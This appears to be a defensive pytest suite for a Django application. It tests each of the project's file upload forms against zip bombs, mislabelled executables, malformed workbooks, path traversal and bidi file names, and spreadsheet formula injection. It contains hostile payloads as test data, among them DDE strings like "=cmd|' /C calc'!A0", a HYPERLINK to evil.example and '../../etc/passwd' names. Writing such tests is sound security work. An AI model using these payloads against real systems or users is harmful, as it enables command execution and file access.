"""Issue 13, hostile input: every upload of the project against the upload attacks.

The uploads (every forms.FileField of the project; `test_every_upload_of_the_project_is_here`
fails on a new one): Annex 1 lines (XLSX), Annex 1 attachments, the labour-market figures (XLSX),
the national labour force (XLSX or CSV) and the permits used (XLSX). Each gets: zip bombs (a sheet
of 20 MB in a 20 KB file, 200 MB of zeros), the wrong type by content (PDF, PNG, EXE named .xlsx
or .pdf), a path, a NUL or 300 characters in the file name, formula cells, and malformed workbooks
(not a zip, no sheet, a shared string out of range, a huge dimension, broken XML). None is a 5xx;
a refused file changes no row and is told in Russian with the field's label; text that looks like
a formula and gets stored comes back out of the exports as text, never as a formula."""
from __future__ import annotations

import functools
import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from openpyxl import load_workbook

from tests import xlsx_files
from tests.applications.conftest import make_pdf, make_xlsx_bytes, make_zip_bomb
from tests.test_hostile_forms import FORMS, World, snapshot

pytestmark = pytest.mark.django_db

PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
       b"\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82")
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200
FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x","click")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0"]


@dataclass
class Upload:
    form: str  # the form class (module.Class) whose FileField this is
    who: str
    path: Callable[[World], str]
    good: Callable[[World], bytes]  # a file the view accepts, the attacks' base
    extra: Callable[[World], dict] = lambda w: {}
    field: str = "file"
    kind: str = "xlsx"  # "xlsx" imports; "attachment" stores the file


def _year(w):
    return w.cast.campaign.year


def lines_xlsx(w) -> bytes:
    return make_xlsx_bytes([["3", "2142", "Монтаж", 3]])


def figures_xlsx(w) -> bytes:
    client = w.cast.client(w.cast.akimat_officer)
    response = client.get("/commissions/labour-market/template.xlsx")
    template = b"".join(response.streaming_content) if response.streaming else response.content
    wb = load_workbook(io.BytesIO(template))
    ws = wb.worksheets[0]
    ws.append(["2142", *([1] * (ws.max_column - 1))])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def labour_force_xlsx(w) -> bytes:
    return xlsx_files.workbook([["region", "persons", "source", "as_of"],
                                ["", 9_720_000, "Бюро национальной статистики", "2025-12-31"]])


def permits_xlsx(w) -> bytes:
    w.published()
    return xlsx_files.workbook([["category", "permits", "issued_on", "reference"], ["3", 2, "2026-11-20", "R-1"]])


UPLOADS = [
    Upload("applications.forms.LinesUploadForm", "employer", lambda w: f"/applications/{w.draft().pk}/lines/upload/",
           lines_xlsx),
    Upload("applications.forms.AttachmentForm", "employer", lambda w: f"/applications/{w.draft().pk}/attachments/",
           lambda w: make_pdf(), kind="attachment"),
    Upload("commissions.forms.FigureImportForm", "akimat_officer", lambda w: "/commissions/labour-market/import/",
           figures_xlsx),
    Upload("allocation.scenario_forms.LabourForceImportForm", "analyst",
           lambda w: f"/ministry/quota/{_year(w)}/labour-force/import/", labour_force_xlsx),
    Upload("allocation.redistribution_forms.PermitImportForm", "akimat_officer",
           lambda w: (w.published(), "/allocation/permits/import/")[1], permits_xlsx,
           extra=lambda w: {"campaign": w.cast.campaign.pk}),
]


def test_every_upload_of_the_project_is_here():
    with_files = {name for name, form in FORMS.items()
                  if any(f.__class__.__name__ in ("FileField", "ImageField") for f in form.base_fields.values())}
    assert with_files == {u.form for u in UPLOADS}


# --- the attacks: (name, file name, content from the good file, must it be refused) ---------------

@functools.cache
def big_bomb() -> bytes:
    return make_zip_bomb()


def huge_dimension(good: bytes) -> bytes:
    sheet = zipfile.ZipFile(io.BytesIO(good)).read(xlsx_files.SHEET).decode()
    import re

    sheet = re.sub(r"<dimension ref=\"[^\"]*\"\s*/>", '<dimension ref="A1:XFD1048576"/>', sheet)
    if "<dimension" not in sheet:
        sheet = sheet.replace("<sheetData", '<dimension ref="A1:XFD1048576"/><sheetData', 1)
    return xlsx_files.rezip(good, {xlsx_files.SHEET: sheet.encode()})


def formula_text_cells(good: bytes) -> bytes:
    """Text cells (inline strings) that a spreadsheet would run if written back as they are."""
    wb = load_workbook(io.BytesIO(good))
    ws = wb.worksheets[0]
    last = [c.value for c in ws[ws.max_row]]
    for formula in FORMULAS:
        row = list(last)
        # The text column of each import: the last text-like cell gets the formula.
        text_at = max((i for i, v in enumerate(row) if isinstance(v, str)), default=0)
        row[text_at] = formula
        ws.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    return as_text_cells(buf.getvalue())


def as_text_cells(content: bytes) -> bytes:
    """openpyxl writes "=..." as a formula; make each of them a text cell (as Excel stores "'=...")."""
    import re

    sheet = zipfile.ZipFile(io.BytesIO(content)).read(xlsx_files.SHEET).decode()
    sheet = re.sub(r'<c r="([A-Z]+\d+)"([^>]*)><f>(.*?)</f><v\s*/?>(?:</v>)?</c>',
                   lambda m: f'<c r="{m.group(1)}" t="inlineStr"><is><t>={m.group(3)}</t></is></c>', sheet)
    return xlsx_files.rezip(content, {xlsx_files.SHEET: sheet.encode()})


def real_formula(good: bytes) -> bytes:
    wb = load_workbook(io.BytesIO(good))
    ws = wb.worksheets[0]
    ws.cell(row=ws.max_row, column=ws.max_column, value="=1+cmd|' /C calc'!A0")
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def last_ref(good: bytes) -> str:
    ws = load_workbook(io.BytesIO(good)).worksheets[0]
    return f"A{ws.max_row}"


XLSX_ATTACKS: list[tuple[str, str, Callable[[bytes], bytes], bool]] = [
    ("zip bomb: a 20 MB cell", "a.xlsx", lambda g: xlsx_files.huge_text_bomb(g, last_ref(g)), True),
    ("zip bomb: 200 MB of zeros", "a.xlsx", lambda g: big_bomb(), True),
    ("a PDF named .xlsx", "a.xlsx", lambda g: make_pdf(), True),
    ("a PNG named .xlsx", "a.xlsx", lambda g: PNG, True),
    ("an EXE named .xlsx", "a.xlsx", lambda g: EXE, True),
    ("not a zip", "a.xlsx", lambda g: xlsx_files.not_a_zip(), True),
    ("no content types part", "a.xlsx", lambda g: xlsx_files.rezip(g, {"[Content_Types].xml": None}), True),
    ("no sheet part", "a.xlsx", lambda g: xlsx_files.rezip(g, {xlsx_files.SHEET: None}), True),
    ("shared string out of range", "a.xlsx", lambda g: xlsx_files.shared_string_out_of_range(g, last_ref(g)), True),
    ("broken sheet XML", "a.xlsx", lambda g: xlsx_files.rezip(g, {xlsx_files.SHEET: b"<worksheet><sheetData><row>"}),
     True),
    ("a huge dimension", "a.xlsx", huge_dimension, False),
    ("a part outside the workbook", "a.xlsx", lambda g: xlsx_files.with_part(g, "payload/run.exe"), True),
    ("a real formula cell", "a.xlsx", real_formula, True),
    ("text cells that look like formulas", "a.xlsx", formula_text_cells, False),
    ("a path in the name", "../../etc/passwd.xlsx", lambda g: g, False),
    ("a Windows path in the name", "..\\..\\boot.ini.xlsx", lambda g: g, False),
    ("300 characters in the name", "ы" * 295 + ".xlsx", lambda g: g, False),
    ("an empty file", "a.xlsx", lambda g: b"", True),
]

ATTACHMENT_ATTACKS: list[tuple[str, str, Callable[[bytes], bytes], bool]] = [
    ("zip bomb: an XLSX of 200 MB of zeros", "a.xlsx", lambda g: big_bomb(), True),
    ("zip bomb: a 20 MB cell", "a.xlsx", lambda g: xlsx_files.huge_text_bomb(lines_xlsx(None), "C2"), True),
    # An allowed type under another type's name is kept by its content (applications/uploads.py):
    # it is served with its content's type and extension, never as what its name claims.
    ("an XLSX named .pdf", "a.pdf", lambda g: lines_xlsx(None), False),
    ("an EXE named .pdf", "a.pdf", lambda g: EXE, True),
    ("an EXE named .png", "a.png", lambda g: EXE, True),
    ("HTML named .png", "a.png", lambda g: b"<html><script>alert(1)</script></html>", True),
    ("a PNG named .pdf", "a.pdf", lambda g: PNG, False),
    ("a PDF named .docx", "a.docx", lambda g: xlsx_files.not_a_zip(), False),
    ("random bytes named .docx", "a.docx", lambda g: bytes(range(256)) * 4, True),
    ("a zip that is no Office file named .docx", "a.docx",
     lambda g: xlsx_files.rezip(lines_xlsx(None), {"[Content_Types].xml": None}), True),
    ("a path in the name", "../../etc/passwd.pdf", lambda g: g, False),
    ("a Windows path in the name", "..\\..\\win.ini.pdf", lambda g: g, False),
    ("300 characters in the name", "ы" * 296 + ".pdf", lambda g: g, False),
    ("a formula as the name", "=HYPERLINK(\"http:\\\\evil\",\"x\").pdf", lambda g: g, False),
    ("bidi in the name", "fdp.\u202eexe.pdf", lambda g: g, False),
    ("an empty file", "a.pdf", lambda g: b"", True),
]

CASES = [(u, a) for u in UPLOADS for a in (ATTACHMENT_ATTACKS if u.kind == "attachment" else XLSX_ATTACKS)]


def russian_label(upload: Upload) -> str:
    with translation.override("ru"):
        return str(FORMS[upload.form].base_fields[upload.field].label)


def assert_no_formula_in(content: bytes, where: str):
    wb = load_workbook(io.BytesIO(content))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (where, cell.coordinate, cell.value)


def exports_of(w, upload: Upload) -> list[tuple[str, bytes]]:
    """The XLSX exports that show what the upload stored, as the people who read them get them."""
    out = []

    def get(user, path):
        response = w.cast.client(user).get(path)
        assert response.status_code == 200, path
        body = b"".join(response.streaming_content) if response.streaming else response.content
        out.append((path, body))

    if upload.form.startswith("applications."):
        get(w.cast.employer, f"/applications/{w.draft().pk}/annex1.xlsx")
    if upload.form == "commissions.forms.FigureImportForm":
        get(w.cast.akimat_officer, "/commissions/inbox.xlsx")
    return out


@pytest.fixture(autouse=True)
def _language_restored():
    with translation.override(translation.get_language()):
        yield


@pytest.mark.parametrize(("upload", "attack"), CASES, ids=[f"{u.form.rsplit('.', 1)[1]}-{a[0]}" for u, a in CASES])
def test_an_upload_attack_is_refused_or_harmless(upload, attack, cast, occupations):
    _name, filename, make, must_refuse = attack
    w = World(cast, occupations)
    path = upload.path(w)
    content = make(upload.good(w))
    client = cast.client(getattr(cast, upload.who))
    client.cookies["qp_language"] = "ru"
    client.get(path.replace("/import/", "/").replace("/lines/upload/", "/edit/").replace("/attachments/", "/edit/"))
    before = snapshot()
    response = client.post(path, {**upload.extra(w), upload.field: SimpleUploadedFile(filename, content)},
                           follow=True)
    assert response.status_code < 500
    changed = snapshot() != before
    body = response.content.decode()
    if must_refuse:
        assert not changed, "a refused upload changed rows"
        assert response.status_code in (200, 400)
        assert russian_label(upload) in body, "the refusal does not name the field"
    if upload.kind == "attachment" and changed:
        from applications.models import Attachment
        from applications.uploads import ALLOWED

        stored = Attachment.objects.order_by("-pk").first()
        assert "/" not in stored.original_name and "\\" not in stored.original_name
        assert ".." not in stored.file.name and not stored.file.name.startswith("/")
        download = client.get(f"/applications/{w.draft().pk}/attachments/{stored.pk}/")
        assert download["Content-Type"] == stored.content_type
        served = download["Content-Disposition"]
        assert served.rstrip('"').endswith("." + ALLOWED[stored.content_type]), served
        assert "\u202e" not in served
    if changed:
        for where, export in exports_of(w, upload):
            assert_no_formula_in(export, where)


def test_the_bombs_are_small_on_the_wire():
    assert len(big_bomb()) < 1_000_000
    assert len(xlsx_files.huge_text_bomb(lines_xlsx(None), "C2")) < 100_000


def test_formula_looking_lines_come_back_out_of_the_annex1_export_as_text(cast, occupations):
    """The lines import keeps text as text: a specialty that starts with = + - @ is stored and the
    Annex 1 workbook shows it as a string cell."""
    w = World(cast, occupations)
    draft = w.draft()
    client = cast.client(cast.employer)
    codes = ["2142", "7212", "1120", "3112", "9211"]
    rows = [["3", code, formula, 1] for code, formula in zip(codes, FORMULAS, strict=True)]
    client.post(f"/applications/{draft.pk}/lines/upload/",
                {"file": SimpleUploadedFile("lines.xlsx", as_text_cells(make_xlsx_bytes(rows)))})
    specialties = set(draft.lines.values_list("specialty", flat=True))
    response = client.get(f"/applications/{draft.pk}/annex1.xlsx")
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert_no_formula_in(content, "annex1.xlsx")
    assert specialties == set(FORMULAS), specialties
    values = {c.value for ws in load_workbook(io.BytesIO(content)).worksheets for row in ws.iter_rows() for c in row}
    shown = {v.removeprefix("'") for v in values if isinstance(v, str)}
    assert set(FORMULAS) <= shown, "the specialties are not in the workbook as text"
